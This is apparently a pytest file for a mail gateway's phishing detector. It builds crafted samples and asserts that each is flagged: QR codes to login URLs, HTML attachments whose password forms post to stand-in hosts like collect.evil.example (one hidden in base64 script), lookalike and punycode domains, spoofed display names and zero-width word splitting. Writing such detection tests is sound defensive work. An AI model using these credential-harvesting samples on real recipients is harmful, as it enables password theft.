"""The phishing check on crafted mails: QR codes in images and PDFs, HTML attachments that draw a login form,
punycode and lookalike domains of the tenant's own domains and of brands, display names that claim a brand or a
colleague, links that show a brand and lead elsewhere, hidden text that splits words — each symbol with its evidence.

Every sample is built here: QR codes with segno, PDFs with Pillow, the rest as MIME text. The check runs for real,
against the test's database (the tenants' domains and known addresses) and, in the last test, inside the ingress.
"""

from __future__ import annotations

import asyncio
import base64
import io
import time
from email.message import EmailMessage

import segno
from PIL import Image
from sqlalchemy import select

from smtp.checks import REGISTRY
from smtp.checks.base import CheckContext, Finding
from smtp.checks.phishing import PhishingCheck
from smtp.mime import parse_mail
from smtp.phishing import qr
from smtp.phishing.lookalike import Targets, decode_idn, find_lookalike, make_targets, skeleton
from smtp.verdict import decide
from tenants.models import Message, ValidRecipient
from tenants.policy import Policy
from tenants.scope import msp_scope, tenant_scope
from tenants.symbols import lookup
from tests.integration.test_ingress import client
from tests.support.servers import run_cli, wait_for

#: A host name that imitates acme.test with a Cyrillic "а" (U+0430) in place of the Latin "a".
ACME_LOOKALIKE = "\u0430cme.test".encode("idna").decode("ascii")


# --- samples ------------------------------------------------------------------------------------------------------

def qr_png(text: str, scale: int = 5) -> bytes:
    buf = io.BytesIO()
    segno.make(text, error="m").save(buf, kind="png", scale=scale, border=4)
    return buf.getvalue()


def pdf_with_image(png: bytes) -> bytes:
    """A one-page PDF whose page is the image (Pillow writes it as an embedded image XObject)."""
    buf = io.BytesIO()
    Image.open(io.BytesIO(png)).convert("RGB").save(buf, "PDF")
    return buf.getvalue()


def mail(*, sender: str = "Billing <billing@vendor.example>", to: str = "bob@acme.test", text: str = "Hello.\n",
         html: str | None = None, attachments: tuple[tuple[str, bytes, str], ...] = (),
         headers: dict[str, str] | None = None) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, to, "Your documents"
    for name, value in (headers or {}).items():
        msg[name] = value
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    for filename, data, ctype in attachments:
        maintype, _, subtype = ctype.partition("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def run_check(cfg, tenant_ids, raw: bytes, *, mail_from: str = "billing@vendor.example",
              rcpts=("bob@acme.test",)) -> CheckContext:
    ctx = CheckContext(cfg=cfg, client_ip="203.0.113.9", helo="mx.vendor.example", mail_from=mail_from,
                       rcpts=list(rcpts), tenant_ids=list(tenant_ids),
                       policies={t: Policy() for t in tenant_ids}, mail=parse_mail(raw))
    asyncio.run(PhishingCheck(cfg).run(ctx))
    return ctx


def found(ctx: CheckContext) -> dict[str, Finding]:
    return {f.symbol: f for f in ctx.findings}


# --- the check on crafted mails -----------------------------------------------------------------------------------

def test_the_check_is_registered_and_its_symbols_are_scored():
    assert PhishingCheck in REGISTRY
    for symbol in PhishingCheck.symbols:
        assert lookup(symbol).description, symbol
    assert lookup("PHISHING_TEMPFAIL").score == 0.0


def test_quishing_a_qr_code_image_pointing_at_a_login_url_is_found(cfg, world):
    """Attack: the login link is only in a QR code image, where no link filter sees it and the reader's phone opens
    it outside the company's protection."""
    url = "http://198.51.100.7/office365/login.php"
    raw = mail(text="Scan the code to keep your mailbox.\n", attachments=(("scan.png", qr_png(url), "image/png"),))
    got = found(run_check(cfg, [world["acme"].id], raw))
    assert got["PHISH_QR_URL"].reason == f"scan.png: QR code leads to {url}"
    assert "IP address host" in got["PHISH_QR_URL_SUSPICIOUS"].reason
    assert "credential words: login" in got["PHISH_QR_URL_SUSPICIOUS"].reason
    assert "PHISHING_TEMPFAIL" not in got


def test_quishing_a_qr_code_inside_a_pdf_is_found(cfg, world):
    """Attack: the QR code sits in a PDF "invoice" rather than in an image attachment."""
    url = "https://secure-docs.example/review"
    raw = mail(attachments=(("invoice.pdf", pdf_with_image(qr_png(url)), "application/pdf"),))
    got = found(run_check(cfg, [world["acme"].id], raw))
    assert got["PHISH_QR_URL"].reason == f"invoice.pdf page 1: QR code leads to {url}"
    assert "PHISH_QR_URL_SUSPICIOUS" not in got  # nothing suspicious in the address itself


def test_a_qr_code_that_is_no_web_address_and_a_plain_image_record_nothing(cfg, world):
    plain = io.BytesIO()
    Image.new("RGB", (200, 120), "white").save(plain, "PNG")
    raw = mail(attachments=(("wifi.png", qr_png("WIFI:S:Guest;T:WPA;P:secret;;"), "image/png"),
                            ("logo.png", plain.getvalue(), "image/png")))
    assert run_check(cfg, [world["acme"].id], raw).findings == []


def test_html_attachment_with_a_password_form_is_found(cfg, world):
    """Attack: a "secure message" HTML file that opens a local login page and posts the password to the attacker."""
    page = ('<html><body><h1>Microsoft 365</h1><form method="post" action="https://collect.evil.example/p.php">'
            '<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form>'
            '</body></html>')
    raw = mail(attachments=(("Secure_Message.html", page.encode(), "text/html"),))
    got = found(run_check(cfg, [world["acme"].id], raw))
    assert got["PHISH_HTML_ATTACH_FORM"].reason == (
        "Secure_Message.html: a password field and a form posting to collect.evil.example")


def test_html_attachment_that_draws_its_login_form_from_base64_script_is_found(cfg, world):
    """Attack: the page is base64 inside a script (``document.write(atob(...))``), so the markup shows no form."""
    inner = ('<form action="https://collect.evil.example/next.php"><input name="email">'
             '<input type="password" name="pass"></form>' + "<p>Your session expired, sign in again.</p>" * 5)
    page = f'<html><script>document.write(atob("{base64.b64encode(inner.encode()).decode()}"))</script></html>'
    raw = mail(attachments=(("fax_0213.htm", page.encode(), "application/octet-stream"),))
    reason = found(run_check(cfg, [world["acme"].id], raw))["PHISH_HTML_ATTACH_FORM"].reason
    assert reason.startswith("fax_0213.htm: a password field and a form posting to collect.evil.example")
    assert "inside base64-encoded script" in reason


def test_html_attachment_that_redirects_the_browser_is_found(cfg, world):
    page = b'<html><head><meta http-equiv="refresh" content="0; url=https://landing.evil.example/x"></head></html>'
    got = found(run_check(cfg, [world["acme"].id], mail(attachments=(("voicemail.html", page, "text/html"),))))
    assert got["PHISH_HTML_ATTACH_REDIRECT"].reason == "voicemail.html: sends the browser to https://landing.evil.example/x"


def test_punycode_lookalike_of_the_tenants_own_domain_is_found_for_that_tenant_only(cfg, world):
    """Attack: a sender domain that reads "acme.test" but is written with a Cyrillic "а" (an IDN homograph)."""
    acme, beta = world["acme"], world["beta"]
    assert ACME_LOOKALIKE.startswith("xn--") and decode_idn(ACME_LOOKALIKE) == "\u0430cme.test"
    raw = mail(sender=f"IT Service Desk <helpdesk@{ACME_LOOKALIKE}>", to="bob@acme.test, dave@beta.test",
               text=f"Confirm your mailbox at https://portal.{ACME_LOOKALIKE}/owa\n")
    ctx = run_check(cfg, [acme.id, beta.id], raw, mail_from=f"helpdesk@{ACME_LOOKALIKE}",
                    rcpts=("bob@acme.test", "dave@beta.test"))
    own = [f for f in ctx.findings if f.symbol == "PHISH_LOOKALIKE_OWN_DOMAIN"]
    assert [f.tenant_id for f in own] == [acme.id]
    assert f"sender domain {ACME_LOOKALIKE} (\u0430cme.test) imitates acme.test" in own[0].reason
    assert "looks the same (confusable characters)" in own[0].reason
    assert f"link host portal.{ACME_LOOKALIKE}" in own[0].reason
    got = found(ctx)
    assert "mixing Cyrillic and Latin" in got["PHISH_PUNYCODE_SENDER"].reason
    assert "mixing Cyrillic and Latin" in got["PHISH_PUNYCODE_URL"].reason
    # The explanation lists each contribution under acme's policy, none of acme's under beta's.
    acme_scored = {s.symbol: s for s in decide(ctx.findings, acme.id, Policy()).findings}
    assert acme_scored["PHISH_LOOKALIKE_OWN_DOMAIN"].score == lookup("PHISH_LOOKALIKE_OWN_DOMAIN").score > 0
    assert acme_scored["PHISH_LOOKALIKE_OWN_DOMAIN"].reason == own[0].reason
    assert "PHISH_LOOKALIKE_OWN_DOMAIN" not in {s.symbol for s in decide(ctx.findings, beta.id, Policy()).findings}


def test_typo_lookalike_of_the_tenants_domain_in_a_link(cfg, factory):
    """Attack: a one-letter slip of the tenant's domain (contoso-group.test → contoso-gruop.test) in a link."""
    tenant = factory.tenant("Contoso", ("contoso-group.test",))
    raw = mail(to="ann@contoso-group.test", text="Payroll: https://payroll.contoso-gruop.test/login\n")
    got = found(run_check(cfg, [tenant.id], raw, rcpts=("ann@contoso-group.test",)))
    assert got["PHISH_LOOKALIKE_OWN_DOMAIN"].reason == (
        "link host payroll.contoso-gruop.test imitates contoso-group.test (your domain contoso-group.test): "
        "one typing slip ('ou' swapped)")
    assert got["PHISH_LOOKALIKE_OWN_DOMAIN"].tenant_id == tenant.id


def test_lookalike_and_punycode_brand_domains_are_found(cfg, world):
    raw = mail(sender="PayPal <service@paypa1.com>",
               text="Log in: https://www.paypa1.com/signin and https://xn--pypal-4ve.com/verify\n")
    got = found(run_check(cfg, [world["acme"].id], raw, mail_from="service@paypa1.com"))
    brand = got["PHISH_LOOKALIKE_BRAND"].reason
    assert "sender domain paypa1.com imitates paypal.com (PayPal): looks the same" in brand
    assert "link host xn--pypal-4ve.com (p\u0430ypal.com) imitates paypal.com (PayPal)" in brand
    assert "xn--pypal-4ve shows as 'p\u0430ypal', mixing Cyrillic and Latin" in got["PHISH_PUNYCODE_URL"].reason
    assert "display name 'PayPal' claims PayPal but sender domain paypa1.com" in got["PHISH_DISPLAY_BRAND"].reason


def test_display_name_claiming_a_brand_is_found_with_its_evidence(cfg, world):
    """Attack: "Microsoft 365" in the display name, the address at an unrelated domain (most clients show the name)."""
    got = found(run_check(cfg, [world["acme"].id], mail(sender='"Microsoft 365" <it-team@x.example>'),
                          mail_from="it-team@x.example"))
    assert got["PHISH_DISPLAY_BRAND"].reason == (
        "display name 'Microsoft 365' claims Microsoft but sender domain x.example is not Microsoft's")
    disguised = found(run_check(cfg, [world["acme"].id], mail(sender="Micr\u043esoft Account <a@x.example>")))
    assert "(written with lookalike characters)" in disguised["PHISH_DISPLAY_BRAND"].reason


def test_the_brands_own_mail_and_an_ordinary_mail_record_nothing(cfg, world):
    own = mail(sender="Microsoft account team <account-security-noreply@accountprotection.microsoft.com>",
               html='<p>Review at <a href="https://account.live.com/activity">account.live.com/activity</a></p>',
               text="Review at https://account.live.com/activity\n")
    assert run_check(cfg, [world["acme"].id], own, mail_from="bounce@accountprotection.microsoft.com").findings == []
    ordinary = mail(sender="Alice <alice@partner.example>", text="Minutes: https://wiki.partner.example/page\n",
                    html='<p>See <a href="https://wiki.partner.example/page">the wiki</a>.</p>')
    assert run_check(cfg, [world["acme"].id], ordinary, mail_from="alice@partner.example").findings == []


def test_outside_sender_named_like_a_colleague_is_found(cfg, world, session):
    """Attack (CEO fraud): the display name is a colleague's name, the address a free-mail one."""
    acme = world["acme"]
    with tenant_scope(acme.id):
        session.add(ValidRecipient(tenant_id=acme.id, address="jane.doe@acme.test"))
        session.commit()
    ctx = run_check(cfg, [acme.id], mail(sender="Jane Doe <jd.office@freemail.example>"),
                    mail_from="jd.office@freemail.example")
    assert found(ctx)["PHISH_DISPLAY_COLLEAGUE"].reason == (
        "display name 'Jane Doe' is the name of jane.doe@acme.test, but the mail comes from outside: "
        "jd.office@freemail.example")
    assert found(ctx)["PHISH_DISPLAY_COLLEAGUE"].tenant_id == acme.id
    shown = run_check(cfg, [acme.id], mail(sender='"ceo@acme.test" <boss@freemail.example>'))
    assert "shows an address of acme.test" in found(shown)["PHISH_DISPLAY_COLLEAGUE"].reason
    # The colleague herself writing from inside is no claim.
    inside = run_check(cfg, [acme.id], mail(sender="Jane Doe <jane.doe@acme.test>"), mail_from="jane.doe@acme.test")
    assert "PHISH_DISPLAY_COLLEAGUE" not in found(inside)


def test_link_showing_a_brand_address_that_leads_elsewhere_and_salted_words_are_found(cfg, world):
    """Attack: the link text is www.paypal.com, the href goes elsewhere; "password" is split by a zero-size span
    and "Microsoft" by a zero-width space, so a filter reads other words than the reader sees."""
    html = ('<p>Micro\u200bsoft: your pass<span style="font-size:0">x7q</span>word expires.</p>'
            '<p><a href="https://evil.example/pp">www.paypal.com/signin</a></p>')
    got = found(run_check(cfg, [world["acme"].id], mail(html=html)))
    assert got["PHISH_LINK_MISMATCH"].reason == "link shows www.paypal.com (PayPal) but leads to evil.example"
    assert got["PHISH_HIDDEN_TEXT"].reason == (
        "hidden text or zero-width characters split 'microsoft', 'password' for filters, not for the reader")


def test_password_form_in_the_body_posting_elsewhere_and_brand_credential_url(cfg, world):
    html = ('<form action="https://x.evil.example/c"><input type="password" name="p"></form>'
            '<a href="https://files.evil.example/docusign/signin.php">Review document</a>')
    got = found(run_check(cfg, [world["acme"].id], mail(html=html)))
    assert got["PHISH_PASSWORD_FORM"].reason == "a form in the mail asks for a password, posting to x.evil.example"
    assert got["PHISH_CREDENTIAL_URL"].reason == (
        "link https://files.evil.example/docusign/signin.php names DocuSign and signin on files.evil.example, "
        "not DocuSign's")


def test_a_broken_image_and_pdf_give_a_tempfail_finding_and_the_rest_is_still_analysed(cfg, world):
    """Attack surface: files built to crash a decoder must neither lose the mail nor hide the other findings."""
    good = qr_png("https://login.evil.example/")
    raw = mail(attachments=(("broken.png", good[:120], "image/png"),
                            ("broken.pdf", b"%PDF-1.7\n1 0 obj <<", "application/pdf"),
                            ("code.png", good, "image/png")))
    got = found(run_check(cfg, [world["acme"].id], raw))
    assert got["PHISH_QR_URL"].reason == "code.png: QR code leads to https://login.evil.example/"
    assert "broken.png: OSError" in got["PHISHING_TEMPFAIL"].reason
    assert "broken.pdf: " in got["PHISHING_TEMPFAIL"].reason
    assert lookup("PHISHING_TEMPFAIL").score == 0.0


def test_image_work_is_bounded_per_mail(cfg, world):
    """Attack: a decompression-bomb sized image and a flood of images must not make the check decode them all."""
    huge = io.BytesIO()
    Image.new("1", (6000, 6000), 1).save(huge, "PNG")  # 36 megapixels, a few kB compressed
    many = tuple((f"i{n}.png", qr_png(f"https://n{n}.example/"), "image/png") for n in range(qr.MAX_IMAGES + 2))
    raw = mail(attachments=(("huge.png", huge.getvalue(), "image/png"), *many))
    got = found(run_check(cfg, [world["acme"].id], raw))
    assert "huge.png: 6000x6000 pixels, over the decode limit" in got["PHISHING_TEMPFAIL"].reason
    assert f"limit {qr.MAX_IMAGES} images" in got["PHISHING_TEMPFAIL"].reason
    assert got["PHISH_QR_URL"].reason.endswith(f"and {qr.MAX_IMAGES - 3} more")  # only MAX_IMAGES decoded


def test_skeleton_and_typo_rules():
    assert skeleton("\u0440\u0430\u0443\u0440\u0430l") == skeleton("paypal") == skeleton("paypa1")
    targets = Targets(make_targets(["binance.com", "stripe.com", "microsoft.com"], "brand"))
    assert find_lookalike("finance.com", targets) is None  # one letter, but no typing slip: a real word
    assert find_lookalike("stripes.com", targets) is None
    look = find_lookalike("micr0soft-support.com", targets)
    assert look is not None and look.target.domain == "microsoft.com"
    assert find_lookalike("login.microsoft.com", targets) is None


# --- through the real ingress -------------------------------------------------------------------------------------

def test_ingress_stores_phishing_findings_with_reasons(env, ingress, acme, sink, session):
    """A quishing mail with an HTML login attachment through the real ingress: judged, and each contribution is
    stored with its score and reason for the tracking center. (The thresholds are raised so that the mail is
    delivered tagged whatever the other checks add: this test is about the explanation, not the verdict.)"""
    set_policy = run_cli(["policy", "set", "Acme", "quarantine_threshold=500", "reject_threshold=1000"], env)
    assert set_policy.returncode == 0, set_policy.stderr
    time.sleep(1.5)  # the ingress reloads policy when the version moves
    page = b'<form action="https://collect.evil.example/p"><input type="password" name="p"></form>'
    raw = mail(sender='"Microsoft 365" <it@x.example>',
               attachments=(("scan.png", qr_png("https://login.evil.example/m365"), "image/png"),
                            ("message.html", page, "text/html")))
    with client(env) as c:
        c.sendmail("it@x.example", ["bob@acme.test"], raw)
    sink.wait_count(1)

    def stored() -> list[Message]:
        session.rollback()
        with msp_scope():
            return list(session.scalars(select(Message)))

    msg = wait_for(stored, 10, what="stored message")[0]
    with msp_scope():
        rows = {f.symbol: (f.score, f.reason) for f in msg.findings}
        assert msg.verdict == "tag"
        assert "PHISH_HTML_ATTACH_FORM +5" in msg.explanation
    assert rows["PHISH_QR_URL"] == (lookup("PHISH_QR_URL").score,
                                    "scan.png: QR code leads to https://login.evil.example/m365")
    form_reason = "message.html: a password field and a form posting to collect.evil.example"
    assert rows["PHISH_HTML_ATTACH_FORM"] == (lookup("PHISH_HTML_ATTACH_FORM").score, form_reason)
    assert rows["PHISH_DISPLAY_BRAND"][1].startswith("display name 'Microsoft 365' claims Microsoft")
    assert "PHISHING_TEMPFAIL" not in rows
